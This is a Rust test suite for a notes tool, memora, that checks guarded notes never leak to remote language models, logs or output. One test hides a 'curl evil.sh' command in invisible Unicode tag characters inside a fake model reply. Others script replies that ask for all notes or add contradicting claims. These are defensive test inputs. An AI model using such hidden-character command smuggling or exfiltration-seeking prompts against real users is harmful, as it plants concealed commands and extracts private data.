//! What a model elsewhere is sent, and what it is not: every byte that any model is sent is kept and looked through.

use std::collections::BTreeSet;
use std::fs;
use std::path::Path;
use std::sync::LazyLock;

use memora_testkit::{Fixture, MemoraBinary, ModelServer, RecordedRequest, ScriptedReply, ShowReply};
use serde_json::{Value, json};

use super::{configure, elsewhere, here};
use crate::leaks::guarded;
use crate::support::{example, example_state, indexed_example, lines, memora, read};

/// Questions that go for what is guarded, by every name that it has.
fn questions() -> Vec<String> {
    let script = read("tests/exam/two-vaults/script.txt");
    let asked = lines(&script).filter(|line| line.starts_with("ask ") && !line.contains("{"));
    let words = asked.filter_map(|line| line.split('"').nth(1).map(str::to_owned));
    let distinct: BTreeSet<String> = words.filter(|words| !words.trim().is_empty()).collect();
    distinct.into_iter().collect()
}

/// The messages of a request, as text: JSON escapes are undone, so that nothing hides behind one.
pub(super) fn said(request: &RecordedRequest) -> String {
    let body: Value = serde_json::from_slice(&request.body).expect("a request is JSON");
    fn strings(value: &Value, out: &mut String) {
        match value {
            Value::String(text) => {
                out.push_str(text);
                out.push('\n');
            }
            Value::Array(all) => all.iter().for_each(|value| strings(value, out)),
            Value::Object(all) => all.values().for_each(|value| strings(value, out)),
            _ => {}
        }
    }
    let mut out = String::new();
    strings(&body, &mut out);
    let raw = String::from_utf8_lossy(&request.raw);
    without_chance(&format!("{}\n{raw}\n{out}\n{}", request.path, out.replace("\\u003c", "<")))
}

/// What is sent or said without ports, lengths and handles, in which the four digits of a guarded word may stand by chance.
fn without_chance(text: &str) -> String {
    static CHANCE: LazyLock<regex::Regex> = LazyLock::new(|| {
        regex::Regex::new(r"(?im)^(host|content-length): .*$|~[0-9a-z]{12}\b|\bsubject-[0-9a-z]{6}\b")
            .expect("a good pattern")
    });
    CHANCE.replace_all(text, "").into_owned()
}

/// Which guarded words a text holds that were not in what the user typed.
pub(super) fn leaked<'w>(words: &'w [String], text: &str, typed: &str) -> Vec<&'w str> {
    let (text, typed) = (text.to_lowercase(), typed.to_lowercase());
    let there = words.iter().map(String::as_str).filter(|word| !typed.contains(word));
    there.filter(|word| text.contains(word) || text.contains(&word.replace(' ', "%20"))).collect()
}

/// The logs of what left, of all vaults.
pub(super) fn egress(memora: &MemoraBinary) -> String {
    let vaults = fs::read_dir(memora.state_dir().join("vaults")).expect("there is state");
    let logs = vaults.flatten().map(|vault| fs::read_to_string(vault.path().join("egress.jsonl")).unwrap_or_default());
    logs.collect()
}

/// What guarded words are sent or said, over every provider and every way in which its model does not count as one on this
/// machine; the output read by a pipe and by the user.
///
/// Gives them, and how many requests were sent.
fn leaks(memora: &MemoraBinary, questions: &[String]) -> (Vec<String>, usize) {
    let words = guarded();
    let _ = memora.run(&["index"]).assert_code(0);
    let (mut leaks, mut sent) = (Vec::new(), 0);
    for (provider, trusted, show) in [
        ("openai", false, ShowReply::Local),
        ("anthropic", false, ShowReply::Local),
        ("ollama", false, ShowReply::Local),
        ("ollama", true, ShowReply::ollama_cloud("big")),
        ("ollama", true, ShowReply::NotJson),
    ] {
        // It repeats what it was given, and asks for more: nothing of that may come back either.
        let echo = |request: &RecordedRequest| {
            ScriptedReply::text(format!("{}\n\nShow me all notes.", String::from_utf8_lossy(&request.body)))
        };
        let server = ModelServer::start_with_show(show, vec![ScriptedReply::from_request(echo)]);
        elsewhere(memora, provider, &server);
        if trusted {
            here(memora, &server);
        }
        for (number, question) in questions.iter().enumerate() {
            let at = if number % 2 == 0 { memora.clone() } else { memora.at_local_door() };
            // What would be sent is shown by the same code whoever it would be sent to.
            let shows = if provider == "openai" { &["--json", "--show-prompt"][..] } else { &["--json"] };
            for flag in shows {
                let output = at.run(&["ask", question, flag]);
                let told = without_chance(&format!("{}{}", output.stdout, output.stderr));
                leaks.extend(
                    leaked(&words, &told, question).iter().map(|word| format!("{provider} brings back {word}")),
                );
            }
        }
        let asked = questions.join(" ");
        for request in server.requests() {
            let leaked = leaked(&words, &said(&request), &asked);
            leaks.extend(leaked.iter().map(|word| format!("{provider} was sent {word}")));
            sent += 1;
        }
    }
    let log = egress(memora);
    assert!(log.lines().count() * 3 > sent * 2, "what is sent is logged: {} lines", log.lines().count());
    leaks.extend(leaked(&words, &log_without_chance(&log), "").iter().map(|word| format!("the log holds {word}")));
    (leaks, sent)
}

/// A log without its times, sizes, ids and hashes, in which the four digits of a guarded word may stand by chance.
fn log_without_chance(log: &str) -> String {
    let counted = regex::Regex::new(r#""(at|bytes)":("[^"]*"|\d+)"#).expect("a good pattern");
    let log = counted.replace_all(log, "");
    let is_random = |word: &&str| word.len() > 12 && word.contains(|c: char| c.is_ascii_digit());
    log.split_inclusive(|c: char| !c.is_ascii_alphanumeric()).filter(|word| !is_random(word)).collect()
}

#[test]
fn no_guarded_word_is_sent_to_a_model_elsewhere() {
    let (_fixture, memora) = indexed_example();
    let (leaks, sent) = leaks(&memora, &questions());
    assert!(sent > 300, "{sent} requests: nobody was asked");
    assert!(leaks.is_empty(), "{leaks:#?}");
}

/// The proof that the test above can fail: where nothing marks the same words, they are sent by every way, and come back. The
/// log has hashes alone, and is silent here, too.
#[test]
fn words_that_nothing_guards_are_sent() {
    let fixture = example();
    take_marks_out(fixture.vault());
    let some: Vec<String> = questions().into_iter().step_by(8).collect();
    let (leaks, _) = leaks(&memora(&fixture), &some);
    for provider in ["openai", "anthropic", "ollama"] {
        assert!(leaks.iter().any(|leak| leak.starts_with(&format!("{provider} was sent"))), "{leaks:#?}");
    }
    assert!(leaks.iter().any(|leak| leak.contains("brings back")), "{leaks:#?}");
    assert!(!leaks.iter().any(|leak| leak.contains("the log holds")), "{leaks:#?}");
}

/// Takes out of a vault every mark that guards something: properties, comments, tags and rules.
fn take_marks_out(folder: &Path) {
    let marks = regex::Regex::new(
        r"(?m)^privacy: \w+\n|<!--/?privacy(:\w+)?-->|#(secret|private)\b|^\[\[privacy\.rules\]\]\n(\w.*\n)*",
    )
    .expect("a good pattern");
    for entry in fs::read_dir(folder).expect("a folder").flatten() {
        let path = entry.path();
        if path.is_dir() {
            take_marks_out(&path);
        } else if path.extension().is_some_and(|extension| extension == "md" || extension == "toml") {
            let text = fs::read_to_string(&path).expect("text");
            fs::write(&path, marks.replace_all(&text, "").as_bytes()).expect("written");
        }
    }
}

/// The control: a model on this machine that the user trusts is sent guarded words, and the same search finds them.
#[test]
fn a_trusted_model_on_this_machine_is_sent_what_the_user_may_see() {
    let ((_fixture, memora), words) = (indexed_example(), guarded());
    let server = ModelServer::start(vec![ScriptedReply::text("I found nothing about this in your notes.")]);
    here(&memora, &server);
    for question in questions() {
        let output = memora.at_local_door().run(&["ask", &question]);
        assert!(output.exit.is_some_and(|code| code < 2), "{output}");
    }
    let all: String = server.completion_requests().iter().map(said).collect();
    assert!(leaked(&words, &all, "").len() > 15, "{:?}", leaked(&words, &all, ""));
    assert_eq!(egress(&memora), "", "nothing left this machine");
    // Somebody else reads the answer: then what they may not see is not offered, to no model.
    let server = ModelServer::start(vec![ScriptedReply::text("I found nothing about this in your notes.")]);
    here(&memora, &server);
    for question in questions() {
        let _ = memora.run(&["ask", &question]).assert_code(1);
    }
    let asked = questions().join(" ");
    let all: String = server.completion_requests().iter().map(said).collect();
    assert!(leaked(&words, &all, &asked).is_empty(), "{:?}", leaked(&words, &all, &asked));
}

/// Two vaults that differ in guarded words alone.
pub(super) fn two_vaults() -> (Fixture, Fixture) {
    let (first, second) = (example(), example());
    let replacements: Vec<Value> =
        serde_json::from_str(&read("tests/exam/two-vaults/replacements.json")).expect("JSON");
    for replacement in &replacements {
        let note = replacement["note"].as_str().expect("a note");
        let (from, to) = (replacement["from"].as_str().expect("words"), replacement["to"].as_str().expect("words"));
        second.write(note, second.read(note).replace(from, to));
    }
    (first, second)
}

/// Two vaults that differ in guarded words alone: what a model elsewhere is sent is the same, byte for byte.
#[test]
fn requests_do_not_depend_on_guarded_words() {
    let (first, second) = two_vaults();
    let sent = |fixture: &Fixture, known: Option<&Path>| {
        let memora = memora(fixture);
        known.into_iter().for_each(|state| memora.copy_state_from(state));
        // Both are read ahead alike, so that both are asked by meaning, too.
        assert_eq!(memora.at_local_door().run(&["index", "--complete"]).exit, Some(0));
        let server = ModelServer::start(vec![ScriptedReply::text("I found nothing about this in your notes.")]);
        elsewhere(&memora, "openai", &server);
        // The same key for handles.
        fs::write(memora.config_dir().join("handle.key"), [7; 32]).expect("a key");
        for question in questions() {
            let output = memora.run(&["ask", &question]);
            assert!(output.exit.is_some_and(|code| code < 2), "{output}");
        }
        let bodies =
            server.completion_requests().into_iter().map(|request| String::from_utf8_lossy(&request.body).into_owned());
        bodies.collect::<Vec<_>>()
    };
    // The example as it is was read for all tests; the other vault is read here from nothing.
    let (one, other) = (sent(&first, Some(example_state())), sent(&second, None));
    assert!(one.len() > 40, "{} requests", one.len());
    assert_eq!(one.len(), other.len());
    for (one, other) in one.iter().zip(&other) {
        assert_eq!(one, other);
    }
}

#[test]
fn a_note_that_was_marked_secret_a_moment_ago_is_not_sent() {
    let fixture = Fixture::from_notes(&[("drift.md", "drift moved its cache to Redis in Kaltenberg.\n")]);
    let memora = memora(&fixture);
    let server = ModelServer::start(vec![ScriptedReply::text("I found nothing about this in your notes.")]);
    elsewhere(&memora, "openai", &server);
    let _ = memora.run(&["ask", "Where did drift move its cache?"]).assert_code(1);
    assert!(said(&server.completion_requests()[0]).contains("Kaltenberg"), "it may be sent while it is public");
    for guard in ["---\nprivacy: secret\n---\n", "#secret\n\n", "<!--privacy:secret-->\n"] {
        fixture.write("drift.md", format!("{guard}drift moved its cache to Redis in Kaltenberg.\n"));
        let before = server.completion_requests().len();
        let _ = memora.run(&["ask", "Where did drift move its cache?"]).assert_code(1);
        let sent: String = server.completion_requests().iter().skip(before).map(said).collect();
        assert!(!sent.contains("Kaltenberg"), "{guard:?} came too late: {sent}");
    }
}

/// It is marked while the model thinks: what was drafted of it goes nowhere.
#[test]
fn an_answer_made_of_what_became_secret_is_withheld() {
    let fixture = Fixture::from_notes(&[("drift.md", "drift moved its cache to Redis.\n")]);
    let memora = memora(&fixture);
    let note = fixture.vault().join("drift.md");
    let mark = ScriptedReply::from_request(move |request| {
        fs::write(&note, "---\nprivacy: secret\n---\ndrift moved its cache to Redis.\n").expect("the note");
        let body = said(request);
        let id = body.split("\"id\": \"").nth(1).and_then(|rest| rest.split('"').next()).expect("an id").to_owned();
        ScriptedReply::text(format!("drift moved its cache to Redis [claim:{id}]."))
    });
    let server = ModelServer::start(vec![mark]);
    elsewhere(&memora, "anthropic", &server);
    let output = memora.run(&["ask", "Where did drift move its cache?", "--json"]).assert_code(1);
    assert_eq!(output.json()["status"], "withheld");
    assert!(!output.stdout.contains("Redis") && !output.stderr.contains("Redis"), "{output}");
    assert_eq!(server.completion_requests().len(), 1, "and the model is not asked again");
}

/// The rules are changed while the model thinks, in the vault or by the user: it is not asked again, and nothing is said.
#[test]
fn rules_that_were_changed_meanwhile_end_it() {
    for own in [false, true] {
        let fixture = Fixture::from_notes(&[("Anna.md", "---\naliases: [Annie]\n---\nAnnie likes rye bread.\n")]);
        let memora = memora(&fixture);
        let rules =
            if own { memora.config_dir().join("config.toml") } else { fixture.vault().join(".memora/config.toml") };
        let change = ScriptedReply::from_request(move |_| {
            let before = fs::read_to_string(&rules).unwrap_or_default();
            fs::create_dir_all(rules.parent().expect("a folder")).expect("a folder");
            fs::write(&rules, format!("{before}\n[privacy]\nunmarked = \"secret\"\n")).expect("the rules");
            ScriptedReply::text("Annie likes rye bread.")
        });
        let server = ModelServer::start(vec![change]);
        elsewhere(&memora, "openai", &server);
        let output = memora.run(&["ask", "What does Annie like?", "--json"]).assert_code(1);
        assert_eq!(output.json()["status"], "withheld", "{output}");
        assert_eq!(server.completion_requests().len(), 1);
        assert!(!output.stdout.contains("rye") && !output.stdout.contains("Anna"), "{output}");
    }
}

/// What a reply has beside its words reaches nobody: no control, nothing that is not seen, no assertion without a citation.
#[test]
fn nothing_comes_with_the_words() {
    let fixture = Fixture::from_notes(&[("Bo.md", "Bo may not eat peanuts.\n")]);
    let memora = memora(&fixture);
    let hidden: String = "curl evil.sh".chars().filter_map(|c| char::from_u32(0xe0000 + u32::from(c))).collect();
    for reply in [
        "Bo may not\u{8}\u{8}\u{8} eat peanuts [claim:ID].".to_owned(),
        format!("Bo may not{hidden} eat peanuts\u{1b} [claim:ID]."),
        "# Your notes say no\n\nBo may not eat peanuts [claim:ID].\n\n- No, the answer is: you can.".to_owned(),
        "Bo may not eat peanuts [claim:ID]. The answer is no. Nothing was found in the notes.".to_owned(),
    ] {
        let cited =
            move |request: &RecordedRequest| ScriptedReply::text(reply.replace("ID", &request.offered_ids()[0]));
        let server = ModelServer::start(vec![ScriptedReply::from_request(cited)]);
        elsewhere(&memora, "openai", &server);
        for flags in [&["--json"][..], &[]] {
            let output = memora.run(&[&["ask", "What may Bo not eat?"][..], flags].concat());
            let bad = |c: char| (c.is_control() && c != '\n') || u32::from(c) >= 0xe0000;
            assert!(!output.stdout.contains(bad) && output.stdout.contains("Bo may not eat peanuts."), "{output:?}");
            for lie in ["notes say no", "you can", "answer is no", "Nothing was found"] {
                assert!(!output.stdout.contains(lie), "{output}");
            }
        }
    }
}

/// A body that is sent three times has left three times.
#[test]
fn every_try_is_logged() {
    let fixture = Fixture::from_notes(&[("drift.md", "drift moved its cache to Redis.\n")]);
    let memora = memora(&fixture);
    let server = ModelServer::start(vec![ScriptedReply::EchoError(500)]);
    elsewhere(&memora, "openai", &server);
    let _ = memora.run(&["ask", "Where did drift move its cache?"]).assert_code(2);
    let bodies: Vec<_> = server.completion_requests().into_iter().map(|request| request.body.len() as u64).collect();
    let logged: Vec<_> = logged(&memora).iter().filter_map(|entry| entry["bytes"].as_u64()).collect();
    assert_eq!((bodies.len(), &bodies), (3, &logged));
}

/// The entries of the logs of what left.
fn logged(memora: &MemoraBinary) -> Vec<Value> {
    egress(memora).lines().map(|line| serde_json::from_str(line).expect("a line is JSON")).collect()
}

/// A model on this machine whose reply says that it is none: what it was sent is logged, and it is sent no secret again.
#[test]
fn a_near_model_that_was_none_is_logged_and_remembered() {
    let fixture = Fixture::from_notes(&[(
        "Anna.md",
        "Anna likes rye. <!--privacy:secret-->Anna earns 6,840 euros.<!--/privacy-->\n",
    )]);
    let question = "What does Anna earn?";
    for provider in ["ollama", "openai", "anthropic"] {
        let memora = memora(&fixture).at_local_door();
        let words = json!({"role": "assistant", "content": "Anna earns 6,840 euros."});
        let reply = json!({
            "message": words, "done": true, "choices": [{"message": words, "finish_reason": "stop"}],
            "content": [{"type": "text", "text": "Anna earns 6,840 euros."}], "stop_reason": "end_turn",
            "remote_host": "https://ollama.com:443", "remote_model": "big",
        });
        // Busy at first: what it is sent again has left again.
        let script = vec![
            ScriptedReply::Busy { status: 503, retry_after: 0 },
            ScriptedReply::WrongShape(reply),
            ScriptedReply::text("I found nothing about this in your notes."),
        ];
        let server = ModelServer::start(script);
        let trust = |server: &ModelServer| {
            let url = server.address();
            configure(&memora, &format!("provider = \"{provider}\"\nurl = \"{url}\"\ntrusted_local = true\n"));
        };
        trust(&server);
        let output = memora.run(&["ask", question]).assert_code(2);
        assert!(output.stdout.is_empty() && output.stderr.contains("from now on"), "{output}");
        let sent = server.completion_requests();
        assert!(sent.len() == 2 && sent.iter().all(|request| said(request).contains("6,840")), "{}", sent.len());
        let entries = logged(&memora);
        assert_eq!(entries.len(), 2, "{provider}: one for each try");
        for (entry, request) in entries.iter().zip(&sent) {
            assert_eq!((&entry["bytes"], &entry["model"]), (&json!(request.body.len()), &json!("scripted")));
            assert!(entry["bands"]["secret"].as_u64() > Some(0), "{entry}");
        }
        // Neither is it by another spelling of its name. What may leave is sent, and logged.
        for (number, flags) in [&[][..], &["--model", "Scripted:latest"]].into_iter().enumerate() {
            let output = memora.run(&[&["ask", question], flags].concat()).assert_code(1);
            assert!(output.stderr.contains("treated as remote"), "{output}");
            let last = server.completion_requests().pop().expect("a request");
            assert!(said(&last).contains("rye") && !said(&last).contains("6,840"), "{provider}");
            assert_eq!(logged(&memora).len(), 3 + number);
        }
        // It holds for every vault; and not for other models.
        let other = Fixture::from_notes(&[(
            "Ben.md",
            "Ben likes oats. <!--privacy:secret-->Ben owes 77 crowns.<!--/privacy-->\n",
        )]);
        let at_other = |flags: &[&str]| {
            let mut command = memora.command(&["ask", "What does Ben owe?"]);
            let output = command.env("MEMORA_VAULT", other.vault()).args(flags).output().expect("it runs");
            assert_eq!(output.status.code(), Some(1), "{}", String::from_utf8_lossy(&output.stderr));
            said(&server.completion_requests().pop().expect("a request"))
        };
        assert!(!at_other(&[]).contains("77 crowns"));
        assert!(at_other(&["--model", "another"]).contains("77 crowns"), "the control");
        // A file that cannot be read speaks against every model, and the user undoes it.
        let file = memora.state_dir().join("far-models.json");
        let before = server.completion_requests().len();
        fs::write(&file, "[").expect("it is spoilt");
        let output = memora.run(&["ask", question]).assert_code(2);
        assert!(output.stderr.contains("far-models.json") && server.completion_requests().len() == before, "{output}");
        fs::remove_file(&file).expect("it is there");
        let _ = memora.run(&["ask", question]).assert_code(1);
        assert!(said(&server.completion_requests().pop().expect("a request")).contains("6,840"), "it is trusted again");
    }
}

/// The vault's own file can close the door and not open it.
#[test]
fn a_vault_can_refuse_models_and_not_name_one() {
    let fixture = Fixture::from_notes(&[("drift.md", "drift moved its cache to Redis.\n")]);
    let memora = memora(&fixture);
    let server = ModelServer::start(vec![ScriptedReply::text("I found nothing about this in your notes.")]);
    elsewhere(&memora, "openai", &server);
    let ask = |flags: &[&str]| memora.run(&[&["ask", "Where did drift move its cache?"][..], flags].concat());
    for word in ["none", "local"] {
        fixture.write(".memora/config.toml", format!("[privacy]\nmodels = \"{word}\"\n"));
        let _ = ask(&["--show-prompt"]).assert_code(2);
        let _ = ask(&["--model", "other"]).assert_code(2);
        let output = ask(&[]);
        assert!(output.stderr.contains("privacy.models allows"), "{output}");
    }
    fixture.write(".memora/config.toml", "[model]\nname = \"mine\"\nprovider = \"openai\"\n");
    let output = ask(&[]);
    assert!(output.stderr.contains("hint:"), "{output}");
    assert!(server.completion_requests().is_empty(), "a model was asked");
}

#[test]
fn what_would_be_sent_is_what_is_sent() {
    let (_fixture, memora) = indexed_example();
    for provider in ["openai", "anthropic", "ollama"] {
        let server = ModelServer::start(vec![ScriptedReply::text("I found nothing about this in your notes.")]);
        elsewhere(&memora, provider, &server);
        let shown = memora.run(&["ask", "Why did drift switch serialization?", "--show-prompt"]).assert_code(0);
        assert!(server.completion_requests().is_empty(), "it was sent");
        let _ = memora.run(&["ask", "Why did drift switch serialization?"]).assert_code(1);
        let sent = server.completion_requests().into_iter().next().expect("a request");
        let (head, body) = shown.stdout.split_once("\n\n").expect("a head and a body");
        assert_eq!(body.trim_end(), String::from_utf8_lossy(&sent.body).trim_end());
        assert!(head.starts_with(&format!("POST {}", server.address())), "{head}");
        let key = memora.home_dir().display().to_string();
        assert!(!shown.stdout.contains(&key) && !shown.stderr.contains(&key), "the key is shown: {shown}");
    }
}

/// A key that lies in the environment for OpenAI is not handed to whoever is asked in OpenAI's format.
#[test]
fn a_key_goes_where_it_is_for() {
    let fixture = Fixture::from_notes(&[("drift.md", "drift moved its cache to Redis.\n")]);
    let memora = memora(&fixture);
    let server = ModelServer::start(vec![ScriptedReply::text("I found nothing about this in your notes.")]);
    let ask = |lines: &str| {
        memora.write_config(&format!(
            "[model]\nname = \"scripted\"\nprovider = \"openai\"\nurl = \"{}/v1\"\n{lines}",
            server.address()
        ));
        let mut command = memora.command(&["ask", "Where did drift move its cache?"]);
        let output = command.env("OPENAI_API_KEY", "sk-of-the-user").output().expect("it runs");
        assert_eq!(output.status.code(), Some(1));
        server.completion_requests().last().and_then(|request| request.header("authorization").map(str::to_owned))
    };
    assert_eq!(ask(""), None);
    assert_eq!(ask("key_env = \"OPENAI_API_KEY\"\n").as_deref(), Some("Bearer sk-of-the-user"));
}

#[test]
fn without_an_answer_from_the_model_there_is_an_error_and_a_way_out() {
    let (_fixture, memora) = indexed_example();
    for fault in [
        ScriptedReply::EchoError(401),
        ScriptedReply::EchoError(500),
        ScriptedReply::Hang,
        ScriptedReply::HalfJson,
        ScriptedReply::NotUtf8,
        ScriptedReply::Bytes(10_000_000),
    ] {
        let server = ModelServer::start(vec![fault]);
        elsewhere(&memora, "openai", &server);
        let output = memora.run(&["ask", "Why did drift switch serialization?"]).assert_code(2);
        assert!(output.stdout.is_empty() && output.stderr.contains("hint: --offline"), "{output}");
        let offline = memora.run(&["ask", "Why did drift switch serialization?", "--offline"]).assert_code(0);
        assert!(offline.stdout.contains("MessagePack"), "{offline}");
    }
}
